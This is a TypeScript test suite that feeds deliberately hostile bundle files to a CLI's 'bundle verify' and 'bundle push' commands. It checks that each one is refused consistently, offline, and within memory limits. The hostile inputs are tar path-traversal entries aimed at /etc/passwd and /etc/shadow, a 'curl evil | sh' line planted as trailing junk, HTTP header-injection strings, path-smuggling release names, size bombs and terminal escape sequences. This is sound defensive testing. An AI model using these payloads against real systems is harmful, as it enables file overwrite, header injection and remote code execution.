/**
 * Adversarial suite, boundary "bundle file -> verify / push": hostile bundles (tar tricks, crafted
 * JSON documents, missing or resized blobs, files that are not files, keys and signatures that
 * never end) each get the same refusal code and exit code from `bundle verify` and `bundle push`,
 * the exit code README documents for that code, never exit 70, bounded memory (peak RSS), no hang,
 * and push sends not one request to the registry (a local server counts them).
 *
 * Every run is the built CLI as a separate process under `ulimit -v` (so a regression fails instead
 * of eating the machine) with a --require hook that records its peak RSS.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn, execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BIN, REPO } from '../helpers/cli.js';
import { bundleFixture, makeBundle, type BundleFixture } from '../helpers/bundles.js';
import { BundleCraft, blobPath } from '../helpers/bundle-craft.js';
import { tarHeader } from '../helpers/tar-writer.js';
import { exitCodeOf, type StoppingCode } from '../../cli/lib/error-catalogue.js';
import { MEDIA } from '../../cli/oci/types.js';

const MiB = 1024 * 1024;
/** Peak RSS a refusal may take (a normal run is ~100 MiB; the 1.5 GiB pax header once took 1.6 GB). */
const MAX_RSS_KIB = 256 * 1024;
const expectedExit = (code: string) => exitCodeOf(code as StoppingCode);

let fixture: BundleFixture;
let good: string;
let work: string;
let hook: string;
let server: http.Server;
let port: number;
let requests = 0;

beforeAll(async () => {
  fixture = await bundleFixture({ weightsBytes: 64 * 1024 });
  good = (await makeBundle(fixture, 'good.bundle', { weightsDir: fixture.weightsDir, includeWeights: true })).bundle;
  work = mkdtempSync(join(tmpdir(), 'installctl-hostile-'));
  hook = join(work, 'rss-hook.cjs');
  writeFileSync(hook, "process.on('exit', () => require('node:fs').writeFileSync(process.env.INSTALLCTL_TEST_RSS, String(process.resourceUsage().maxRSS)));\n");
  server = http.createServer((request, response) => {
    requests++;
    request.resume();
    response.statusCode = 503;
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
}, 120_000);
afterAll(() => new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve())));

interface Run {
  status: number | null;
  code: string | null;
  rssKiB: number;
  timedOut: boolean;
  output: string;
}

/** What verify's report says, as the code push would refuse with. */
function reportCode(result: { signature?: string; missing?: unknown[]; corrupted?: unknown[]; extra?: unknown[] }): string | null {
  if (result.signature === 'invalid') return 'BUNDLE_SIGNATURE_INVALID';
  if (result.missing?.length) return 'BUNDLE_BLOB_MISSING';
  if (result.corrupted?.length) return 'BUNDLE_BLOB_CORRUPT';
  if (result.extra?.length) return 'BUNDLE_BLOB_EXTRA';
  return null;
}

let runs = 0;
function installctl(args: string[]): Promise<Run> {
  const rssFile = join(work, `rss-${++runs}`);
  return new Promise((resolve, reject) => {
    const child = spawn('bash', ['-c', 'ulimit -v 1500000; exec "$0" "$@"', process.execPath, BIN, ...args], {
      cwd: REPO,
      env: { ...process.env, NO_COLOR: '1', NODE_OPTIONS: `--require ${hook}`, INSTALLCTL_TEST_RSS: rssFile },
    });
    let stdout = '';
    let stderr = '';
    let timedOut = false;
    const timer = setTimeout(() => ((timedOut = true), child.kill('SIGKILL')), 40_000);
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.on('error', reject);
    child.on('close', (status) => {
      clearTimeout(timer);
      let code: string | null = null;
      try {
        const json = JSON.parse(stdout) as { error?: { code: string } };
        code = json.error?.code ?? reportCode(json as Parameters<typeof reportCode>[0]);
      } catch {
        code = null;
      }
      const rssKiB = existsSync(rssFile) ? Number(readFileSync(rssFile, 'utf8')) : Number.POSITIVE_INFINITY;
      resolve({ status, code, rssKiB, timedOut, output: `${stdout}${stderr}`.slice(0, 2000) });
    });
  });
}

interface Hostile {
  file: string;
  key?: string;
}

let slug = 0;
/** A crafted bundle file (no .sig next to it: without --key the signature is not what is tested). */
function write(bytes: Buffer): Hostile {
  const file = join(work, `hostile-${++slug}.bundle`);
  writeFileSync(file, bytes);
  return { file };
}

const craft = () => new BundleCraft(good);
const layer = () => {
  const { manifest } = craft();
  return manifest.blobs.find((blob: { mediaType: string }) => blob.mediaType === MEDIA.weights) as { digest: string; size: number; mediaType: string };
};
const fakeDescriptors = (count: number) => Array.from({ length: count }, (_, i) => ({ mediaType: MEDIA.manifest, digest: `sha256:${i.toString(16).padStart(64, '0')}`, size: 0 }));
/** Indexes nested `depth` deep, each listing its child `fanout` times; the top one is added to the root index. */
function nested(depth: number, fanout: number): Hostile {
  const bundle = craft();
  let child = bundle.addBlob(JSON.stringify({ schemaVersion: 2, mediaType: MEDIA.index, manifests: [] }), MEDIA.index);
  for (let level = 0; level < depth; level++)
    child = bundle.addBlob(JSON.stringify({ schemaVersion: 2, mediaType: MEDIA.index, manifests: Array(fanout).fill(child) }), MEDIA.index);
  const root = bundle.root;
  root.manifests.push(child);
  return write(bundle.setRoot(root).tar());
}

const table: Array<[string, () => Hostile, string]> = [
  // The tar itself.
  ['an entry named ../evil', () => write(craft().tar({ after: [{ name: '../evil', data: Buffer.from('x') }] })), 'BUNDLE_INVALID'],
  ['an entry named /etc/passwd', () => write(craft().tar({ before: [{ name: '/etc/passwd', data: Buffer.from('root:x:0:0') }] })), 'BUNDLE_INVALID'],
  ['a symbolic link entry', () => write(craft().tar({ after: [{ name: blobPath(`sha256:${'e'.repeat(64)}`), type: '2', linkname: '/etc/shadow' }] })), 'BUNDLE_INVALID'],
  ['a hard link entry', () => write(craft().tar({ after: [{ name: blobPath(`sha256:${'e'.repeat(64)}`), type: '1', linkname: 'index.json' }] })), 'BUNDLE_INVALID'],
  ['a directory entry', () => write(craft().tar({ before: [{ name: 'blobs/', type: '5' }] })), 'BUNDLE_INVALID'],
  ['junk after the end-of-archive marker', () => write(craft().tar({ trailing: Buffer.from('#!/bin/sh\ncurl evil | sh\n') })), 'BUNDLE_INVALID'],
  ['a wrong header checksum', () => write(Buffer.concat([tarHeader({ name: 'oci-layout', data: Buffer.alloc(0), badChecksum: true }), craft().tar()])), 'BUNDLE_INVALID'],
  ['a ./-prefixed re-tar', () => write(craft().tar({ rename: (name) => `./${name}` })), 'BUNDLE_INVALID'],
  ['a name twice (a second index.json)', () => write(craft().tar({ after: [{ name: 'index.json', data: Buffer.from('{}') }] })), 'BUNDLE_INVALID'],
  [
    'a pax header declaring 1.5 GiB (sparse file of that size)',
    () => {
      const hostile = write(tarHeader({ name: 'PaxHeader', type: 'x', size: 1.5 * 1024 ** 3 }));
      truncateSync(hostile.file, 512 + 1.5 * 1024 ** 3 + 1024);
      return hostile;
    },
    'BUNDLE_INVALID',
  ],
  ['a pax header claiming 1.5 GiB in a small file', () => write(craft().tar({ before: [{ name: 'PaxHeader', type: 'x', size: 1.5 * 1024 ** 3 }] })), 'BUNDLE_INVALID'],
  ['a GNU long name of 10 MB', () => write(craft().tar({ before: [{ name: '././@LongLink', type: 'L', gnu: true, data: Buffer.alloc(10 * MiB, 0x61) }] })), 'BUNDLE_INVALID'],
  ['a truncated copy', () => write(readFileSync(good).subarray(0, Math.floor(readFileSync(good).length / 2))), 'BUNDLE_TRUNCATED'],
  ['a copy cut before the end marker', () => write(craft().tar({ end: false })), 'BUNDLE_TRUNCATED'],
  // The JSON documents.
  ['an index.json that is not JSON', () => write(craft().set('index.json', Buffer.from('{"manifests": [')).tar()), 'BUNDLE_INVALID'],
  [
    'an index.json of 10 MB',
    () =>
      write(
        craft()
          .set('index.json', Buffer.concat([Buffer.alloc(10 * MiB, 0x20), craft().data('index.json')]))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  ['an index.json with manifests: "x"', () => write(craft().set('index.json', Buffer.from('{"schemaVersion":2,"manifests":"x"}')).tar()), 'BUNDLE_INVALID'],
  [
    'an index.json whose digest is not a string',
    () =>
      write(
        craft()
          .set('index.json', Buffer.from(`{"schemaVersion":2,"manifests":[{"mediaType":"${MEDIA.index}","digest":5,"size":1}]}`))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'an index.json whose digest is a path',
    () =>
      write(
        craft()
          .set('index.json', Buffer.from(`{"schemaVersion":2,"manifests":[{"mediaType":"${MEDIA.index}","digest":"sha256:../../index.json","size":1}]}`))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'a root index with 100k entries',
    () => {
      const bundle = craft();
      const root = bundle.root;
      root.manifests.push(...fakeDescriptors(100_000));
      return write(bundle.setRoot(root).tar());
    },
    'BUNDLE_INVALID',
  ],
  [
    'a root index with 20k entries under the size cap',
    () => {
      const bundle = craft();
      const root = bundle.root;
      root.manifests.push(...fakeDescriptors(20_000));
      return write(bundle.setRoot(root).tar());
    },
    'BUNDLE_INVALID',
  ],
  ['a bundle record that is JSON of another shape', () => write(craft().setRecord({ schemaVersion: 2, config: 'nope', layers: {} }).tar()), 'BUNDLE_INVALID'],
  [
    'an image index (valid digest) of another shape',
    () => {
      const bundle = craft();
      const root = bundle.root;
      root.manifests[1] = bundle.addBlob(JSON.stringify({ schemaVersion: 2, manifests: [{ mediaType: MEDIA.manifest, digest: 'sha256:x', size: -1 }] }), MEDIA.index);
      return write(bundle.setRoot(root).tar());
    },
    'BUNDLE_INVALID',
  ],
  [
    'a bundle manifest of another shape',
    () =>
      write(
        craft()
          .editManifest((manifest) => ({ ...manifest, blobs: 'all of them' }))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'a bundle manifest repository with ../',
    () =>
      write(
        craft()
          .editManifest((manifest) => void (manifest.images[0].repository = '../../v2/evil'))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  // Release and install name become tags in URLs (images untagged in images.txt, the root index INSTALL-RELEASE).
  [
    'a release that is a path (../../v2/evil)',
    () =>
      write(
        craft()
          .editManifest((manifest) => void (manifest.release = '../../v2/evil'))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'a release with a query (?x=1)',
    () =>
      write(
        craft()
          .editManifest((manifest) => void (manifest.release = '2026.11.0?digest=x'))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'a release of 200 characters',
    () =>
      write(
        craft()
          .editManifest((manifest) => void (manifest.release = 'r'.repeat(200)))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'an install name with a slash',
    () =>
      write(
        craft()
          .editManifest((manifest) => void (manifest.install = 'acme/../../x'))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'an image tag with a newline',
    () =>
      write(
        craft()
          .editManifest((manifest) => void (manifest.images[0].tag = 'v1\nX: y'))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  [
    'a media type with a header injection',
    () =>
      write(
        craft()
          .editManifest((manifest) => void (manifest.images[0].mediaType = 'application/json\r\nX-Evil: 1'))
          .tar(),
      ),
    'BUNDLE_INVALID',
  ],
  ['indexes nested 12 deep, each listing its child 1000 times', () => nested(12, 1000), 'BUNDLE_INVALID'],
  ['indexes nested 6 deep, each listing its child 1000 times (not listed in the manifest)', () => nested(6, 1000), 'BUNDLE_BLOB_EXTRA'],
  // Blobs.
  ['a missing layer the manifest lists', () => write(craft().drop(blobPath(layer().digest)).tar()), 'BUNDLE_BLOB_MISSING'],
  [
    'a missing layer only a manifest references',
    () => {
      const { digest } = layer();
      return write(
        craft()
          .editManifest((manifest) => void (manifest.blobs = manifest.blobs.filter((blob: { digest: string }) => blob.digest !== digest)))
          .drop(blobPath(digest))
          .tar(),
      );
    },
    'BUNDLE_BLOB_MISSING',
  ],
  ['a missing root index', () => write(craft().drop(blobPath(craft().rootDigest)).tar()), 'BUNDLE_BLOB_MISSING'],
  [
    'a layer of another size than its descriptors say',
    () =>
      write(
        craft()
          .set(blobPath(layer().digest), Buffer.alloc(layer().size + 1, 7))
          .tar(),
      ),
    'BUNDLE_BLOB_CORRUPT',
  ],
  [
    'a manifest listing a blob with the wrong size',
    () => {
      const { digest } = layer();
      return write(
        craft()
          .editManifest((manifest) => void (manifest.blobs.find((blob: { digest: string }) => blob.digest === digest).size += 1))
          .tar(),
      );
    },
    'BUNDLE_BLOB_CORRUPT',
  ],
  [
    'an image manifest whose bytes do not match its digest',
    () => {
      const bundle = craft();
      const digest = bundle.manifest.images[0].digest as string;
      const bytes = Buffer.from(bundle.data(blobPath(digest)));
      bytes[bytes.indexOf('"schemaVersion"') + 1] = 'S'.charCodeAt(0);
      return write(bundle.set(blobPath(digest), bytes).tar());
    },
    'BUNDLE_BLOB_CORRUPT',
  ],
  [
    'a blob nothing lists',
    () => {
      const bundle = craft();
      bundle.addBlob('smuggled', 'application/octet-stream');
      return write(bundle.tar());
    },
    'BUNDLE_BLOB_EXTRA',
  ],
  // Files that are not bundles, keys and signatures that never end.
  ['a directory', () => ({ file: fixture.dir }), 'FILE_IS_DIRECTORY'],
  ['/dev/zero', () => ({ file: '/dev/zero' }), 'FILE_NOT_REGULAR'],
  [
    'a FIFO nobody writes to',
    () => {
      const file = join(work, `fifo-${++slug}`);
      execFileSync('mkfifo', [file]);
      return { file };
    },
    'FILE_NOT_REGULAR',
  ],
  ['a path that does not exist', () => ({ file: join(work, 'absent.bundle') }), 'FILE_NOT_FOUND'],
  ['--key /dev/zero', () => ({ file: good, key: '/dev/zero' }), 'BUNDLE_KEY_INVALID'],
  ['--key a directory', () => ({ file: good, key: fixture.dir }), 'BUNDLE_KEY_INVALID'],
  [
    'a signature file that is /dev/zero',
    () => {
      const dir = join(work, `sig-${++slug}`);
      mkdirSync(dir);
      const file = join(dir, 'good.bundle');
      copyFileSync(good, file);
      symlinkSync('/dev/zero', `${file}.sig`);
      return { file, key: fixture.publicKey };
    },
    'BUNDLE_SIGNATURE_INVALID',
  ],
];

const cases = table.map(([name, make, code]) => ({ name, make, code }));

describe('hostile bundles: verify and push refuse each the same way, offline, in bounded memory', () => {
  it('the control: the intact bundle passes verify, and push does talk to the registry', async () => {
    const verified = await installctl(['bundle', 'verify', good, '--key', fixture.publicKey, '--json']);
    expect(verified.status, verified.output).toBe(0);
    const before = requests;
    const pushed = await installctl(['bundle', 'push', good, '--registry', `127.0.0.1:${port}/site`, '--plain-http', '--retries', '0', '--key', fixture.publicKey, '--json']);
    expect(pushed.status, pushed.output).toBe(5);
    expect(requests).toBeGreaterThan(before);
    expect(verified.rssKiB).toBeLessThan(MAX_RSS_KIB);
  }, 120_000);

  it.each(cases)(
    '$name -> $code',
    async ({ make, code }) => {
      const hostile = make();
      const key = hostile.key ? ['--key', hostile.key] : ['--allow-unsigned'];
      const before = requests;
      const [verified, pushed] = await Promise.all([
        installctl(['bundle', 'verify', hostile.file, ...key, '--json']),
        installctl(['bundle', 'push', hostile.file, '--registry', `127.0.0.1:${port}/site`, '--plain-http', '--retries', '0', ...key, '--json']),
      ]);
      for (const [command, run] of [
        ['verify', verified],
        ['push', pushed],
      ] as const) {
        expect(run.timedOut, `${command} hung`).toBe(false);
        expect(run.code, `${command}: ${run.output}`).toBe(code);
        expect(run.status, `${command}: ${run.output}`).toBe(expectedExit(code));
        expect(run.rssKiB, `${command} peak RSS (KiB)`).toBeLessThan(MAX_RSS_KIB);
      }
      expect(requests - before, 'requests push sent to the registry').toBe(0);
    },
    120_000,
  );

  it('an entry name with terminal escapes is shown inert', async () => {
    const hostile = write(craft().tar({ before: [{ name: '\u001b]0;pwned\u0007\u001b[2J', data: Buffer.from('x') }] }));
    const run = await installctl(['bundle', 'verify', hostile.file, '--allow-unsigned']);
    expect(run.status).toBe(4);
    expect(run.output).toContain('BUNDLE_INVALID');
    expect(run.output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
  }, 120_000);

  it('verify --signature /dev/zero reads at most the signature cap: a bad signature (exit 3)', async () => {
    const run = await installctl(['bundle', 'verify', good, '--key', fixture.publicKey, '--signature', '/dev/zero', '--json']);
    expect(run).toMatchObject({ timedOut: false, code: 'BUNDLE_SIGNATURE_INVALID', status: 3 });
    expect(run.rssKiB).toBeLessThan(MAX_RSS_KIB);
  }, 120_000);
});
